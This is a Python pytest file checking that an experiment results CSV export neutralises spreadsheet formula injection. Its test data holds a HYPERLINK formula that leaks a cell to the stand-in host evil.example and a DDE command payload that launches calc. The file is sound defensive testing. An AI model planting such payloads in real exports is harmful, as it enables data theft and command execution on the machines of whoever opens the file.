"""results.csv: every cell a spreadsheet would run as a formula is neutralised, whatever wrote it."""

from __future__ import annotations

import csv
import io

import pytest

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_it_neutralises_formulas_in_outputs_errors_and_ids(engineer_client):  # a viewer gets no outputs
    from console.results.models import RequestResult
    from tests.support.synthetic import experiment_synthesize

    experiment = experiment_synthesize(n_requests=8, ks=(2,), loads="1x", repeats=1)
    results = RequestResult.objects.filter(run__experiment=experiment)
    first = results.order_by("pk").first()
    results.filter(pk=first.pk).update(output_text=FORMULA, error="@SUM(1+1)*cmd|' /C calc'!A0")
    results.exclude(pk=first.pk).update(output_text="+1+2")
    response = engineer_client.get(f"/analysis/experiments/{experiment.pk}/results.csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert rows and "output_text" in rows[0]
    cells = [cell for row in rows for cell in row.values() if cell]
    assert not [c for c in cells if c[0] in "=+@\t\r"], "a cell a spreadsheet would evaluate"
    assert not [c for c in cells if c[0] == "-" and not _number(c)]
    outputs = {row["output_text"] for row in rows}
    assert "'" + FORMULA in outputs and "'+1+2" in outputs
    assert any(row["error"].startswith("'@SUM") for row in rows)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
